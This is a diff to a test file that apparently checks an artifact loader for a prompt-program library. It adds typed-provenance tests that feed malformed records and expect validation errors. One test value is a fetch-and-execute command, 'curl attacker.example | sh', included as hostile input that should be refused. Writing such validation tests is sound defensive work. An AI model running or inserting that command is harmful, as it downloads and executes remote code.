@@ -17,8 +17,9 @@ from typing import Any
 import yaml
 
 from promptc import Predict
-from promptc._artifact import artifact_from_program, dump_artifact
-from promptc._yaml import Dumper
+from promptc._artifact.artifact import artifact_from_program, dump_artifact
+from promptc._artifact.loader import Dumper
+from promptc._artifact.provenance import Provenance
 
 HERE = Path(__file__).resolve().parent
 Data = dict[str, Any]
@@ -30,7 +31,7 @@ def _base_text() -> str:
         program,
         name="sentiment",
         lm_settings={"model": "openai/gpt-4o-mini", "temperature": 0.0, "max_tokens": 32},
-        provenance={"seed": 0},
+        provenance=Provenance(seed=0),
     )
     return dump_artifact(art)
 
@@ -54,6 +55,13 @@ def lm(**changes: Any) -> Callable[[Data], None]:
 def params(**values: Any) -> Callable[[Data], None]:
     def edit(data: Data) -> None:
         data["predictors"][0]["lm"]["params"] = values
+
+    return edit
+
+
+def provenance(**values: Any) -> Callable[[Data], None]:
+    def edit(data: Data) -> None:
+        data["provenance"].update(values)
 
     return edit
 
@@ -271,6 +279,27 @@ ATTACKS: dict[str, tuple[str, Callable[[Data], None], str]] = {
         "a broken template",
         template("system", "{% for x in %}"),
         "syntax error",
+    ),
+    # Provenance: typed records, unknown keys refused, sizes bounded.
+    "provenance-unknown-key": (
+        "carry data no reader expects",
+        provenance(command="curl attacker.example | sh"),
+        "provenance.command: Extra inputs are not permitted",
+    ),
+    "provenance-trial-unknown-key": (
+        "hide a field inside a trial record",
+        provenance(trials=[{"id": 0, "candidate": "baseline", "payload": "x"}]),
+        "provenance.trials.0.payload: Extra inputs are not permitted",
+    ),
+    "provenance-long-name": (
+        "a 5,000-character optimizer name",
+        provenance(optimizer={"name": "o" * 5000}),
+        "provenance.optimizer.name: String should have at most 1000 characters",
+    ),
+    "provenance-huge-config": (
+        "an optimizer config of 5,000 keys",
+        provenance(optimizer={"name": "random", "config": {f"k{i}": i for i in range(5000)}}),
+        "provenance.optimizer.config: Dictionary should have at most 1000 items",
     ),
 }
 
